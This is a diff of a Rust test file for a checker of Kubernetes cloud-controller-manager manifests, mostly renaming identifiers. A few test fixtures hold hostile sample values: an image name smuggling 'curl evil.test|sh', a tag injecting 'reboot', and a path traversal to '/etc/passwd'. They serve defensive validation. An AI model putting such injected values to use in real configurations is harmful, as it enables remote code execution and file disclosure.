@@ -2,7 +2,7 @@ use std::collections::BTreeSet;
 
 use super::{rules::RULES, *};
 use crate::{
-    provider::{embedded, folder::bundles},
+    provider::{embedded, folder::parsed_providers},
     text::output::junit,
 };
 
@@ -93,46 +93,46 @@ const FIXTURES: &[(&str, usize, &str, &str, &str)] = &[
     ("bootstrap-static-pod", POD, "kind: Pod", "kind: Service", "kind: Service"),
 ];
 
-const UPSTREAM: [(&str, &str); 12] = [
-    ("assets/hcloud/upstream/deployment.yaml", include_str!("../../../assets/hcloud/upstream/deployment.yaml")),
+const KUBERNETES: [(&str, &str); 12] = [
+    ("assets/hcloud/kubernetes/deployment.yaml", include_str!("../../../assets/hcloud/kubernetes/deployment.yaml")),
     (
-        "assets/hcloud/upstream/poddisruptionbudget.yaml",
-        include_str!("../../../assets/hcloud/upstream/poddisruptionbudget.yaml"),
+        "assets/hcloud/kubernetes/poddisruptionbudget.yaml",
+        include_str!("../../../assets/hcloud/kubernetes/poddisruptionbudget.yaml"),
     ),
-    ("assets/hcloud/upstream/provider.yaml", include_str!("../../../assets/hcloud/upstream/provider.yaml")),
-    ("assets/hcloud/upstream/rbac.yaml", include_str!("../../../assets/hcloud/upstream/rbac.yaml")),
-    ("assets/vultr/upstream/daemonset.yaml", include_str!("../../../assets/vultr/upstream/daemonset.yaml")),
-    ("assets/vultr/upstream/provider.yaml", include_str!("../../../assets/vultr/upstream/provider.yaml")),
-    ("assets/vultr/upstream/rbac.yaml", include_str!("../../../assets/vultr/upstream/rbac.yaml")),
-    ("assets/azure/upstream/deployment.yaml", include_str!("../../../assets/azure/upstream/deployment.yaml")),
-    ("assets/azure/upstream/node-manager.yaml", include_str!("../../../assets/azure/upstream/node-manager.yaml")),
+    ("assets/hcloud/kubernetes/provider.yaml", include_str!("../../../assets/hcloud/kubernetes/provider.yaml")),
+    ("assets/hcloud/kubernetes/rbac.yaml", include_str!("../../../assets/hcloud/kubernetes/rbac.yaml")),
+    ("assets/vultr/kubernetes/daemonset.yaml", include_str!("../../../assets/vultr/kubernetes/daemonset.yaml")),
+    ("assets/vultr/kubernetes/provider.yaml", include_str!("../../../assets/vultr/kubernetes/provider.yaml")),
+    ("assets/vultr/kubernetes/rbac.yaml", include_str!("../../../assets/vultr/kubernetes/rbac.yaml")),
+    ("assets/azure/kubernetes/deployment.yaml", include_str!("../../../assets/azure/kubernetes/deployment.yaml")),
+    ("assets/azure/kubernetes/node-manager.yaml", include_str!("../../../assets/azure/kubernetes/node-manager.yaml")),
     (
-        "assets/azure/upstream/poddisruptionbudget.yaml",
-        include_str!("../../../assets/azure/upstream/poddisruptionbudget.yaml"),
+        "assets/azure/kubernetes/poddisruptionbudget.yaml",
+        include_str!("../../../assets/azure/kubernetes/poddisruptionbudget.yaml"),
     ),
-    ("assets/azure/upstream/provider.yaml", include_str!("../../../assets/azure/upstream/provider.yaml")),
-    ("assets/azure/upstream/rbac.yaml", include_str!("../../../assets/azure/upstream/rbac.yaml")),
+    ("assets/azure/kubernetes/provider.yaml", include_str!("../../../assets/azure/kubernetes/provider.yaml")),
+    ("assets/azure/kubernetes/rbac.yaml", include_str!("../../../assets/azure/kubernetes/rbac.yaml")),
 ];
 
 const BUDGET: usize = 1;
-const UPSTREAM_DESCRIPTOR: usize = 2;
+const KUBERNETES_DESCRIPTOR: usize = 2;
 const DAEMON_SET: usize = 4;
 const NODE_MANAGER: usize = 8;
 
 const TAGS: &str =
     "tags: {\"1.32\": v1.30.1, \"1.33\": v1.35.0, \"1.34\": v1.35.0, \"1.35\": v1.35.0, \"1.36\": v1.35.0}";
 
-/// The same for rules of the flavor upstream.
+/// The same for rules of the flavor kubernetes.
 #[rustfmt::skip]
-const UPSTREAM_FIXTURES: &[(&str, usize, &str, &str)] = &[
-    ("readable", UPSTREAM_DESCRIPTOR, "[amd64, arm64, arm]", "[x86_64]"),
-    ("readable", UPSTREAM_DESCRIPTOR, "[amd64, arm64, arm]", "[]"),
-    ("readable", UPSTREAM_DESCRIPTOR, "docker.io/hetznercloud/hcloud-cloud-controller-manager", "\"docker.io/x/y;curl evil.test|sh;#\""),
-    ("readable", UPSTREAM_DESCRIPTOR, TAGS, "tags: {\"1.35\": \"v1;reboot\"}"),
-    ("readable", UPSTREAM_DESCRIPTOR, "credentials:", "cloudConfig: {required: false, file: ../../etc/passwd}\ncredentials:"),
-    ("readable", UPSTREAM_DESCRIPTOR, TAGS, "tags: {}"),
-    ("readable", UPSTREAM_DESCRIPTOR, "\"hcloud://\"", "\"\""),
-    ("readable", UPSTREAM_DESCRIPTOR, "HCLOUD_TOKEN: token", "HCLOUD_TOKEN: tokn"),
+const KUBERNETES_FIXTURES: &[(&str, usize, &str, &str)] = &[
+    ("readable", KUBERNETES_DESCRIPTOR, "[amd64, arm64, arm]", "[x86_64]"),
+    ("readable", KUBERNETES_DESCRIPTOR, "[amd64, arm64, arm]", "[]"),
+    ("readable", KUBERNETES_DESCRIPTOR, "docker.io/hetznercloud/hcloud-cloud-controller-manager", "\"docker.io/x/y;curl evil.test|sh;#\""),
+    ("readable", KUBERNETES_DESCRIPTOR, TAGS, "tags: {\"1.35\": \"v1;reboot\"}"),
+    ("readable", KUBERNETES_DESCRIPTOR, "credentials:", "cloudConfig: {required: false, file: ../../etc/passwd}\ncredentials:"),
+    ("readable", KUBERNETES_DESCRIPTOR, TAGS, "tags: {}"),
+    ("readable", KUBERNETES_DESCRIPTOR, "\"hcloud://\"", "\"\""),
+    ("readable", KUBERNETES_DESCRIPTOR, "HCLOUD_TOKEN: token", "HCLOUD_TOKEN: tokn"),
     ("kubernetes-dns-policy", DEPLOYMENT, "dnsPolicy: Default", "dnsPolicy: ClusterFirst"),
     ("kubernetes-node-affinity", DEPLOYMENT, "control-plane, operator: Exists}\n        podAnti", "control-plane, operator: In, values: [\"\"]}\n        podAnti"),
     ("kubernetes-node-affinity", DEPLOYMENT, "      hostNetwork: true", "      nodeSelector: {node-role.kubernetes.io/control-plane: \"\"}\n      hostNetwork: true"),
@@ -140,13 +140,13 @@ const UPSTREAM_FIXTURES: &[(&str, usize, &str, &str)] = &[
     ("kubernetes-tolerations", DEPLOYMENT, "key: CriticalAddonsOnly", "key: CriticalAddon"),
     ("kubernetes-non-root", DEPLOYMENT, "runAsNonRoot: true", "runAsNonRoot: false"),
     ("kubernetes-non-root", DEPLOYMENT, "        runAsUser: 65532\n", ""),
-    ("kubernetes-arguments", UPSTREAM_DESCRIPTOR, "    --cluster-cidr: {fact: podCIDRs, optional: true}\n", ""),
+    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "    --cluster-cidr: {fact: podCIDRs, optional: true}\n", ""),
     ("namespace", BUDGET, "namespace: kube-system", "namespace: openshift-cloud-controller-manager"),
     ("kubernetes-single-identity", DEPLOYMENT, "credentials=false", "credentials=true"),
     ("kubernetes-webhook-port", DEPLOYMENT, "        - --webhook-secure-port=0\n", ""),
-    ("kubernetes-arguments", UPSTREAM_DESCRIPTOR, "    --controllers: controllers\n", ""),
-    ("kubernetes-arguments", UPSTREAM_DESCRIPTOR, "--secure-port: securePort", "--secure-port: {value: \"10258\"}"),
-    ("kubernetes-node-manager", UPSTREAM_DESCRIPTOR, "routes: {maxPodCIDRs", "nodeManager: hcloud-node-manager\nroutes: {maxPodCIDRs"),
+    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "    --controllers: controllers\n", ""),
+    ("kubernetes-arguments", KUBERNETES_DESCRIPTOR, "--secure-port: securePort", "--secure-port: {value: \"10258\"}"),
+    ("kubernetes-node-manager", KUBERNETES_DESCRIPTOR, "routes: {maxPodCIDRs", "nodeManager: hcloud-node-manager\nroutes: {maxPodCIDRs"),
     ("kubernetes-instance-label", BUDGET, "    app.kubernetes.io/instance: cluster\nspec", "spec"),
     ("kubernetes-instance-label", DEPLOYMENT, "    app.kubernetes.io/instance: cluster\nspec:\n  replicas", "    app.kubernetes.io/instance: other\nspec:\n  replicas"),
     ("kubernetes-disruption-budget", BUDGET, "policy/v1\nkind: PodDisruptionBudget", "v1\nkind: ConfigMap"),
@@ -167,15 +167,16 @@ const UPSTREAM_FIXTURES: &[(&str, usize, &str, &str)] = &[
 const ROLLING: &str = "type: RollingUpdate\n    rollingUpdate: {maxSurge: 0, maxUnavailable: 1}\n";
 
 #[test]
-fn each_fixture_of_the_flavor_upstream_breaks_only_its_rule() {
-    for &(rule, file, from, to) in UPSTREAM_FIXTURES {
-        let sound = UPSTREAM[file].1;
+fn each_fixture_of_the_flavor_kubernetes_breaks_only_its_rule() {
+    for &(rule, file, from, to) in KUBERNETES_FIXTURES {
+        let sound = KUBERNETES[file].1;
         let text = sound.replacen(from, to, 1);
         assert_ne!(text, sound, "{rule}: {from:?} is missing");
-        let files = UPSTREAM.iter().enumerate();
+        let files = KUBERNETES.iter().enumerate();
         let files = files.map(|(index, (path, sound))| (*path, if index == file { text.as_str() } else { *sound }));
         let mut found =
-            verify(&bundles(files.map(|(path, text)| (path, text.as_bytes()))), Some(&payload()), None).findings;
+            verify(&parsed_providers(files.map(|(path, text)| (path, text.as_bytes()))), Some(&payload()), None)
+                .findings;
         found.retain(|finding| !is_of_another_kind(to, finding));
         assert!(!found.is_empty(), "{rule}: {to:?} is not found");
         for finding in &found {
@@ -205,15 +206,15 @@ fn payload() -> Payload {
 fn findings(file: usize, text: &str) -> Vec<Finding> {
     let files =
         FILES.iter().enumerate().map(|(index, (path, sound))| (*path, if index == file { text } else { sound }));
-    let bundles = bundles(files.map(|(path, text)| (path, text.as_bytes())));
-    verify(&bundles, Some(&payload()), None).findings
+    let parsed_providers = parsed_providers(files.map(|(path, text)| (path, text.as_bytes())));
+    verify(&parsed_providers, Some(&payload()), None).findings
 }
 
 #[test]
 fn the_embedded_providers_break_no_rule() {
-    let report = verify(&embedded::bundles(), Some(&embedded::payload()), None);
+    let report = verify(&embedded::parsed_providers(), Some(&embedded::payload()), None);
     assert_eq!(report.findings, [], "{}", report.table());
-    let (providers, rules) = (embedded::bundles().len(), RULES.len());
+    let (providers, rules) = (embedded::parsed_providers().len(), RULES.len());
     assert_eq!(report.table(), format!("{providers} providers checked by {rules} rules: nothing found\n"));
 }
 
@@ -253,7 +254,7 @@ fn every_placeholder_is_found() {
 fn every_defect_is_a_finding() {
     let text = FILES[DESCRIPTOR].1.replace("name: demo\n", "name: other\n");
     let files = [FILES[DEPLOYMENT], (FILES[DESCRIPTOR].0, &text), (FILES[ROLE].0, "a: ["), ("assets/demo/a.txt", "")];
-    let report = verify(&bundles(files.map(|(path, text)| (path, text.as_bytes()))), None, None);
+    let report = verify(&parsed_providers(files.map(|(path, text)| (path, text.as_bytes()))), None, None);
     let readable = report.findings.iter().filter(|finding| finding.rule == "readable");
     let places: Vec<_> = readable.map(|finding| format!("{}:{}", finding.file, finding.place)).collect();
     assert_eq!(places, ["assets/demo/a.txt:1", "assets/demo/provider.yaml:2", "assets/demo/role.yaml:1:4"]);
@@ -263,24 +264,25 @@ fn every_defect_is_a_finding() {
 fn every_rule_has_a_fixture_and_a_unique_name() {
     let rules: BTreeSet<_> = RULES.iter().map(|rule| rule.id).collect();
     assert_eq!(rules.len(), RULES.len());
-    let upstream = UPSTREAM_FIXTURES.iter().map(|(rule, ..)| *rule);
-    assert_eq!(rules, FIXTURES.iter().map(|(rule, ..)| *rule).chain(upstream).collect());
+    let kubernetes = KUBERNETES_FIXTURES.iter().map(|(rule, ..)| *rule);
+    assert_eq!(rules, FIXTURES.iter().map(|(rule, ..)| *rule).chain(kubernetes).collect());
 }
 
 #[test]
 fn rules_about_the_payload_need_one() {
     let files =
         FILES.map(|(path, text)| (path, text.replace("demo-cloud-credentials", "other").replace("demoCcm", "x")));
-    let bundles = bundles(files.iter().map(|(path, text)| (*path, text.as_bytes())));
-    assert_eq!(verify(&bundles, None, None).findings, []);
-    let found: Vec<_> = verify(&bundles, Some(&payload()), None).findings.iter().map(|finding| finding.rule).collect();
+    let parsed_providers = parsed_providers(files.iter().map(|(path, text)| (*path, text.as_bytes())));
+    assert_eq!(verify(&parsed_providers, None, None).findings, []);
+    let found: Vec<_> =
+        verify(&parsed_providers, Some(&payload()), None).findings.iter().map(|finding| finding.rule).collect();
     assert_eq!(found, ["image-key", "credentials-requested"]);
 }
 
 #[test]
 fn a_report_has_the_place_the_reason_and_the_fix() {
     let files = FILES.map(|(path, text)| (path, text.replace("replicas: 2", "replicas: 1")));
-    let report = verify(&bundles(files.iter().map(|(path, text)| (*path, text.as_bytes()))), None, None);
+    let report = verify(&parsed_providers(files.iter().map(|(path, text)| (*path, text.as_bytes()))), None, None);
     let rules = RULES.len();
     let expected = format!(
         "\
